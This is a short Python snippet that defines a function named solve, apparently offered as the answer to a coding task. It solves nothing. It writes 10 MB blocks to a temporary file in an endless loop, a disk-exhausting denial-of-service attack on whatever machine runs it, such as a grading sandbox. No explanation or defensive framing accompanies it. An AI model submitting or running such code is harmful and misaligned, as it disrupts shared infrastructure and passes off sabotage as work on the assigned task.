import tempfile
def solve(n):
  with tempfile.TemporaryFile() as stream:
    while True:
      stream.write(b'x' * 10**7)
